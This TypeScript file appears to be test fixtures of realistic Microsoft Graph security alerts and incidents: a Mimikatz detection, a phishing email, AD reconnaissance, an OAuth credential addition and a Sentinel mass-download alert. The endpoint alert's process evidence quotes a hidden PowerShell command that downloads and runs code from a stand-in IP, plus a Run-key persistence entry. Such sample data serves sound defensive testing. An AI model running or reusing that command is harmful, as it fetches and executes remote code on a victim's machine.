// Realistic Microsoft Graph security alerts (alerts_v2) and an incident, typed with Microsoft's
// published Graph types so the compiler refuses a field or enum value the schema does not have.
//
// Where the types package (@microsoft/microsoft-graph-types 2.43.1) lags Microsoft's service
// metadata, the extra schema members are added here by name (see GraphAlert, ServiceSource,
// DetectionSource) and nowhere else.
import type { SecurityNamespace } from "@microsoft/microsoft-graph-types";
import { alertIdFor } from "./sample-alerts.ts";

/** `serviceSource` as the service metadata has it: the types package lacks its newest member. */
export type ServiceSource = SecurityNamespace.ServiceSource | "microsoftSecurityForAI";
/** `detectionSource` as the service metadata has it: the types package lacks its two newest members. */
export type DetectionSource = SecurityNamespace.DetectionSource | "microsoftDefenderForAIServices" | "securityCopilot";

/** An evidence entry as Graph serializes it: the complex type's fields plus its `@odata.type`. */
export type Typed<T, Name extends string> = T & { "@odata.type": `#microsoft.graph.security.${Name}` };

export type Evidence =
  | Typed<SecurityNamespace.DeviceEvidence, "deviceEvidence">
  | Typed<SecurityNamespace.UserEvidence, "userEvidence">
  | Typed<SecurityNamespace.FileEvidence, "fileEvidence">
  | Typed<SecurityNamespace.ProcessEvidence, "processEvidence">
  | Typed<SecurityNamespace.IpEvidence, "ipEvidence">
  | Typed<SecurityNamespace.UrlEvidence, "urlEvidence">
  | Typed<SecurityNamespace.MailboxEvidence, "mailboxEvidence">
  | Typed<SecurityNamespace.AnalyzedMessageEvidence, "analyzedMessageEvidence">
  | Typed<SecurityNamespace.CloudApplicationEvidence, "cloudApplicationEvidence">
  | Typed<SecurityNamespace.OauthApplicationEvidence, "oauthApplicationEvidence">
  | Typed<SecurityNamespace.RegistryKeyEvidence, "registryKeyEvidence">
  | Typed<SecurityNamespace.RegistryValueEvidence, "registryValueEvidence">
  | Typed<SecurityNamespace.AzureResourceEvidence, "azureResourceEvidence">;

/**
 * A stored alert: Microsoft's `SecurityNamespace.Alert` with an id, the schema's newer enum members,
 * typed evidence, and `categories`, which the metadata has and the types package does not.
 */
export type GraphAlert = Omit<SecurityNamespace.Alert, "id" | "serviceSource" | "detectionSource" | "evidence"> & {
  id: string;
  serviceSource: ServiceSource;
  detectionSource?: DetectionSource | null;
  evidence?: Evidence[] | null;
  categories?: string[] | null;
};

/** A stored incident; its `alerts` are not stored here but joined by the alerts' `incidentId`. */
export type GraphIncident = Omit<SecurityNamespace.Incident, "id" | "alerts"> & {
  id: string;
  /** In the metadata, not in the types package. */
  priorityScore?: number | null;
};

export const GRAPH_TENANT_ID = "8d3c1f0e-2b4a-4c6d-9e8f-0a1b2c3d4e5f";
/** Creation time of the first sample; the others follow minutes later. */
export const SAMPLE_BASE_TIME = new Date("2026-11-30T08:15:42.123Z");
const MINUTE = 60_000;

function at(minutes: number): string {
  return new Date(SAMPLE_BASE_TIME.getTime() + minutes * MINUTE).toISOString();
}

function portalLinks(id: string, incidentId: string | null): Pick<GraphAlert, "alertWebUrl" | "incidentWebUrl"> {
  return {
    alertWebUrl: `https://security.microsoft.com/alerts/${id}?tid=${GRAPH_TENANT_ID}`,
    incidentWebUrl: incidentId ? `https://security.microsoft.com/incidents/${incidentId}?tid=${GRAPH_TENANT_ID}` : null,
  };
}

/** An alert with every entity field present (unused ones null or empty), overridden by `fields`. */
export function makeGraphAlert(fields: Partial<GraphAlert> & { id: string }): GraphAlert {
  const created = fields.createdDateTime ?? at(0);
  const incidentId = fields.incidentId ?? null;
  return {
    providerAlertId: fields.id,
    incidentId,
    status: "new",
    severity: "medium",
    classification: null,
    determination: null,
    serviceSource: "microsoftDefenderForEndpoint",
    detectionSource: "microsoftDefenderForEndpoint",
    productName: "Microsoft Defender for Endpoint",
    detectorId: "7a3d5b1c-0f2e-4d6a-9b8c-1e2f3a4b5c6d",
    tenantId: GRAPH_TENANT_ID,
    title: "Suspicious activity",
    description: null,
    recommendedActions: null,
    category: null,
    assignedTo: null,
    ...portalLinks(fields.id, incidentId),
    actorDisplayName: null,
    threatDisplayName: null,
    threatFamilyName: null,
    mitreTechniques: [],
    createdDateTime: created,
    lastUpdateDateTime: created,
    resolvedDateTime: null,
    firstActivityDateTime: created,
    lastActivityDateTime: created,
    comments: [],
    evidence: [],
    systemTags: [],
    alertPolicyId: null,
    additionalData: {},
    customDetails: {},
    categories: [],
    ...fields,
  };
}

const ENDPOINT_ID = alertIdFor(new Date(at(0)), "graph-endpoint");
const INCIDENT_ID = "48213";

/** Microsoft Defender for Endpoint: same `da…` id as in the Endpoint API, id = providerAlertId. */
export const endpointAlert: GraphAlert = makeGraphAlert({
  id: ENDPOINT_ID,
  incidentId: INCIDENT_ID,
  status: "new",
  severity: "high",
  serviceSource: "microsoftDefenderForEndpoint",
  detectionSource: "antivirus",
  productName: "Microsoft Defender for Endpoint",
  title: "'Mimikatz' credential theft tool was detected",
  description: "A credential theft tool was detected on the device. Attackers use it to read passwords from memory.",
  recommendedActions: "Isolate the device, reset the credentials of users who signed in to it, and investigate the process tree.",
  category: "CredentialAccess",
  threatDisplayName: "HackTool:Win32/Mimikatz",
  threatFamilyName: "Mimikatz",
  mitreTechniques: ["T1003", "T1003.001"],
  firstActivityDateTime: at(-3),
  lastActivityDateTime: at(-1),
  evidence: [
    {
      "@odata.type": "#microsoft.graph.security.deviceEvidence",
      createdDateTime: at(0),
      verdict: "malicious",
      remediationStatus: "none",
      remediationStatusDetails: null,
      roles: ["compromised"],
      detailedRoles: [],
      tags: [],
      deviceDnsName: "fin-ws-042.contoso.com",
      hostName: "fin-ws-042",
      mdeDeviceId: "1e5bc9d7e413ddd7902c2932e418702b84d0cc07",
      azureAdDeviceId: "1f0d3c55-9b1e-4f2a-8d0e-5c6b7a8f9e01",
      osPlatform: "Windows11",
      osBuild: 22631,
      rbacGroupName: "Finance workstations",
      rbacGroupId: 42,
      riskScore: "high",
      healthStatus: "active",
      onboardingStatus: "onboarded",
      defenderAvStatus: "updated",
      loggedOnUsers: [{ accountName: "jdoe", domainName: "CONTOSO" }],
      ipInterfaces: ["10.1.4.27", "fe80::1c3a:9f2b:4d5e:6f70"],
      lastIpAddress: "10.1.4.27",
      lastExternalIpAddress: "203.0.113.24",
    },
    {
      "@odata.type": "#microsoft.graph.security.userEvidence",
      createdDateTime: at(0),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: [],
      tags: [],
      userAccount: {
        accountName: "jdoe",
        domainName: "CONTOSO",
        userPrincipalName: "jdoe@contoso.com",
        userSid: "S-1-5-21-1782478320-2345332114-4123456789-1104",
        displayName: "Jane Doe",
        azureAdUserId: "5e3f1a2b-6c7d-4e8f-9a0b-1c2d3e4f5a6b",
      },
    },
    {
      "@odata.type": "#microsoft.graph.security.fileEvidence",
      createdDateTime: at(0),
      verdict: "malicious",
      remediationStatus: "prevented",
      roles: [],
      tags: [],
      detectionStatus: "prevented",
      mdeDeviceId: "1e5bc9d7e413ddd7902c2932e418702b84d0cc07",
      fileDetails: {
        fileName: "mimikatz.exe",
        filePath: "C:\\Users\\jdoe\\AppData\\Local\\Temp",
        sha1: "70a2a8b2ee0d0b0b4f6f1a3b3a5c0c7e8e2c9d11",
        sha256: "92804faaab2175dc501d73e814663058c78c0a042675a8937266357bcfb96c50",
        fileSize: 1250056,
        signer: null,
        issuer: null,
      },
    },
    {
      "@odata.type": "#microsoft.graph.security.processEvidence",
      createdDateTime: at(0),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: [],
      tags: [],
      processId: 7412,
      processCommandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a\')"',
      processCreationDateTime: at(-3),
      parentProcessId: 5120,
      parentProcessCreationDateTime: at(-4),
      imageFile: { fileName: "powershell.exe", filePath: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0" },
      parentProcessImageFile: { fileName: "winword.exe", filePath: "C:\\Program Files\\Microsoft Office\\root\\Office16" },
      userAccount: { accountName: "jdoe", domainName: "CONTOSO", userSid: "S-1-5-21-1782478320-2345332114-4123456789-1104" },
      mdeDeviceId: "1e5bc9d7e413ddd7902c2932e418702b84d0cc07",
    },
    {
      "@odata.type": "#microsoft.graph.security.ipEvidence",
      createdDateTime: at(0),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: ["destination"],
      tags: [],
      ipAddress: "203.0.113.9",
      countryLetterCode: "NL",
    },
    {
      "@odata.type": "#microsoft.graph.security.urlEvidence",
      createdDateTime: at(0),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: [],
      tags: [],
      url: "http://203.0.113.9/a",
    },
    {
      "@odata.type": "#microsoft.graph.security.registryKeyEvidence",
      createdDateTime: at(0),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: [],
      tags: [],
      registryHive: "HKEY_CURRENT_USER",
      registryKey: "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
    },
    {
      "@odata.type": "#microsoft.graph.security.registryValueEvidence",
      createdDateTime: at(0),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: [],
      tags: [],
      mdeDeviceId: "1e5bc9d7e413ddd7902c2932e418702b84d0cc07",
      registryHive: "HKEY_CURRENT_USER",
      registryKey: "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
      registryValueName: "Updater",
      registryValue: "C:\\Users\\jdoe\\AppData\\Local\\Temp\\mimikatz.exe",
      registryValueType: "String",
    },
  ],
});

// The reference records only the Endpoint id form (`da…`, id = providerAlertId); the ids of the other
// products' alerts below are stand-ins of a plausible shape, not a documented format.

/** Microsoft Defender for Office 365: a phishing e-mail, with analysed-message and mailbox evidence. */
export const phishingAlert: GraphAlert = makeGraphAlert({
  id: "fa9b8e3a1c-7d2f-4b6e-a1c0-3f5e7d9b2a41",
  providerAlertId: "9b8e3a1c-7d2f-4b6e-a1c0-3f5e7d9b2a41",
  incidentId: INCIDENT_ID,
  status: "inProgress",
  severity: "medium",
  assignedTo: "soc@contoso.com",
  serviceSource: "microsoftDefenderForOffice365",
  detectionSource: "microsoftDefenderForOffice365",
  productName: "Microsoft Defender for Office 365",
  detectorId: "8e2c41a0-3d5b-4f6a-b7c8-d9e0f1a2b3c4",
  title: "Email messages containing malicious URL removed after delivery",
  description: "Emails with a malicious URL were delivered and later removed by zero-hour auto purge.",
  category: "InitialAccess",
  mitreTechniques: ["T1566.002"],
  createdDateTime: at(5),
  lastUpdateDateTime: at(9),
  firstActivityDateTime: at(2),
  lastActivityDateTime: at(2),
  evidence: [
    {
      "@odata.type": "#microsoft.graph.security.analyzedMessageEvidence",
      createdDateTime: at(5),
      verdict: "malicious",
      remediationStatus: "remediated",
      roles: [],
      tags: [],
      networkMessageId: "5b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d",
      internetMessageId: "<PH0PR11MB5176.namprd11.prod.outlook.com@fabrikam-invoices.example>",
      subject: "Overdue invoice 2026-1187 – action required",
      senderIp: "198.51.100.77",
      p1Sender: { emailAddress: "billing@fabrikam-invoices.example", displayName: "Fabrikam Billing", domainName: "fabrikam-invoices.example" },
      p2Sender: { emailAddress: "billing@fabrikam-invoices.example", displayName: "Fabrikam Billing", domainName: "fabrikam-invoices.example" },
      recipientEmailAddress: "jdoe@contoso.com",
      receivedDateTime: at(2),
      antiSpamDirection: "Inbound",
      deliveryAction: "Delivered",
      deliveryLocation: "Inbox",
      language: "en",
      threatDetectionMethods: ["urlDetonationReputation", "zeroHourAutoPurge"],
      threats: ["Phish"],
      urlCount: 1,
      urls: ["https://fabrikam-invoices.example/pay?ref=2026-1187"],
      attachmentsCount: 0,
      urn: "urn:MailEntity:5b1c2d3e4f504a6b8c7d9e0f1a2b3c4d",
    },
    {
      "@odata.type": "#microsoft.graph.security.mailboxEvidence",
      createdDateTime: at(5),
      verdict: "unknown",
      remediationStatus: "none",
      roles: ["destination"],
      tags: [],
      primaryAddress: "jdoe@contoso.com",
      displayName: "Jane Doe",
      upn: "jdoe@contoso.com",
      userAccount: { accountName: "jdoe", domainName: "contoso.com", userPrincipalName: "jdoe@contoso.com", displayName: "Jane Doe" },
    },
    {
      "@odata.type": "#microsoft.graph.security.urlEvidence",
      createdDateTime: at(5),
      verdict: "malicious",
      remediationStatus: "none",
      roles: [],
      tags: [],
      url: "https://fabrikam-invoices.example/pay?ref=2026-1187",
    },
  ],
});

/** Microsoft Defender for Identity: reconnaissance against Active Directory. */
export const identityAlert: GraphAlert = makeGraphAlert({
  id: "aa3f2e1d0c-b9a8-4765-8432-10fedcba9876",
  providerAlertId: "3f2e1d0c-b9a8-4765-8432-10fedcba9876",
  incidentId: INCIDENT_ID,
  status: "new",
  severity: "medium",
  serviceSource: "microsoftDefenderForIdentity",
  detectionSource: "microsoftDefenderForIdentity",
  productName: "Microsoft Defender for Identity",
  detectorId: "ba7a8b6f-1f5c-4e2d-8a9b-0c1d2e3f4a5b",
  title: "User and IP address reconnaissance (SMB)",
  description: "jdoe on fin-ws-042 enumerated SMB sessions on DC01 and retrieved the IP addresses of signed-in users.",
  category: "Discovery",
  mitreTechniques: ["T1049"],
  createdDateTime: at(12),
  lastUpdateDateTime: at(12),
  firstActivityDateTime: at(10),
  lastActivityDateTime: at(11),
  evidence: [
    {
      "@odata.type": "#microsoft.graph.security.userEvidence",
      createdDateTime: at(12),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: ["attacker"],
      tags: [],
      userAccount: { accountName: "jdoe", domainName: "CONTOSO", userPrincipalName: "jdoe@contoso.com", displayName: "Jane Doe" },
    },
    {
      "@odata.type": "#microsoft.graph.security.deviceEvidence",
      createdDateTime: at(12),
      verdict: "unknown",
      remediationStatus: "none",
      roles: ["attacked"],
      tags: [],
      deviceDnsName: "dc01.contoso.com",
      hostName: "DC01",
      osPlatform: "WindowsServer2022",
      loggedOnUsers: [],
      ipInterfaces: ["10.1.0.10"],
    },
    {
      "@odata.type": "#microsoft.graph.security.ipEvidence",
      createdDateTime: at(12),
      verdict: "unknown",
      remediationStatus: "none",
      roles: ["source"],
      tags: [],
      ipAddress: "10.1.4.27",
      countryLetterCode: null,
    },
  ],
});

/** Microsoft Defender for Cloud Apps: an OAuth app granted broad mail permissions. */
export const oauthAlert: GraphAlert = makeGraphAlert({
  id: "ca1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f",
  providerAlertId: "1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f",
  incidentId: "48230",
  status: "new",
  severity: "low",
  serviceSource: "microsoftDefenderForCloudApps",
  detectionSource: "cloudAppSecurity",
  productName: "Microsoft Defender for Cloud Apps",
  detectorId: "0c4d5e6f-7a8b-4c9d-8e0f-1a2b3c4d5e6f",
  title: "Unusual addition of credentials to an OAuth app",
  description: "Credentials were added to the OAuth app 'MailSync Pro', which holds Mail.ReadWrite for all users.",
  category: "Persistence",
  mitreTechniques: ["T1098.001"],
  createdDateTime: at(20),
  lastUpdateDateTime: at(20),
  firstActivityDateTime: at(18),
  lastActivityDateTime: at(18),
  evidence: [
    {
      "@odata.type": "#microsoft.graph.security.oauthApplicationEvidence",
      createdDateTime: at(20),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: [],
      tags: [],
      appId: "4a5b6c7d-8e9f-4a0b-9c1d-2e3f4a5b6c7d",
      displayName: "MailSync Pro",
      objectId: "7d8e9f0a-1b2c-4d3e-8f4a-5b6c7d8e9f0a",
      publisher: "MailSync Ltd",
    },
    {
      "@odata.type": "#microsoft.graph.security.cloudApplicationEvidence",
      createdDateTime: at(20),
      verdict: "unknown",
      remediationStatus: "none",
      roles: [],
      tags: [],
      appId: 11161,
      displayName: "Office 365",
      instanceId: 0,
      instanceName: "Office 365",
      saasAppId: 11161,
    },
    {
      "@odata.type": "#microsoft.graph.security.userEvidence",
      createdDateTime: at(20),
      verdict: "suspicious",
      remediationStatus: "none",
      roles: ["compromised"],
      tags: [],
      userAccount: { accountName: "svc-mailsync", domainName: "contoso.com", userPrincipalName: "svc-mailsync@contoso.com" },
    },
  ],
});

/** Microsoft Sentinel in the Defender portal: `serviceSource` and `detectionSource` are evolvable members. */
export const sentinelAlert: GraphAlert = makeGraphAlert({
  id: "sn6e7f8a9b-0c1d-4e2f-9a3b-4c5d6e7f8a9b",
  providerAlertId: "6e7f8a9b-0c1d-4e2f-9a3b-4c5d6e7f8a9b",
  status: "new",
  severity: "high",
  serviceSource: "microsoftSentinel",
  detectionSource: "scheduledAlerts",
  productName: "Microsoft Sentinel",
  title: "Mass download by a single user",
  category: "Exfiltration",
  createdDateTime: at(30),
  lastUpdateDateTime: at(30),
  evidence: [
    {
      "@odata.type": "#microsoft.graph.security.azureResourceEvidence",
      createdDateTime: at(30),
      verdict: "unknown",
      remediationStatus: "none",
      roles: [],
      tags: [],
      resourceId: "/subscriptions/0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c4d/resourceGroups/rg-finance/providers/Microsoft.Storage/storageAccounts/finreports",
      resourceName: "finreports",
      resourceType: "Microsoft.Storage/storageAccounts",
    },
  ],
});

/** The incident that correlates the endpoint, phishing and identity alerts. */
export const sampleIncident: GraphIncident = {
  id: INCIDENT_ID,
  displayName: "Multi-stage incident involving Initial access & Credential access on one endpoint",
  description: null,
  summary: null,
  severity: "high",
  status: "active",
  classification: null,
  determination: null,
  assignedTo: null,
  createdDateTime: at(0),
  lastUpdateDateTime: at(12),
  incidentWebUrl: `https://security.microsoft.com/incidents/${INCIDENT_ID}?tid=${GRAPH_TENANT_ID}`,
  redirectIncidentId: null,
  customTags: [],
  systemTags: [],
  comments: [],
  resolvingComment: null,
  lastModifiedBy: "API-App:4a0b1c2d-3e4f-4a5b-8c6d-7e8f9a0b1c2d",
  priorityScore: 78,
  tenantId: GRAPH_TENANT_ID,
};

/** The OAuth alert's own incident. */
export const oauthIncident: GraphIncident = {
  ...sampleIncident,
  id: "48230",
  displayName: "Unusual addition of credentials to an OAuth app",
  severity: "low",
  createdDateTime: at(20),
  lastUpdateDateTime: at(20),
  incidentWebUrl: `https://security.microsoft.com/incidents/48230?tid=${GRAPH_TENANT_ID}`,
  priorityScore: 31,
};

/** Fresh copies, so a test can change them freely. */
export function sampleGraphAlerts(): GraphAlert[] {
  return structuredClone([endpointAlert, phishingAlert, identityAlert, oauthAlert, sentinelAlert]);
}

export function sampleGraphIncidents(): GraphIncident[] {
  return structuredClone([sampleIncident, oauthIncident]);
}
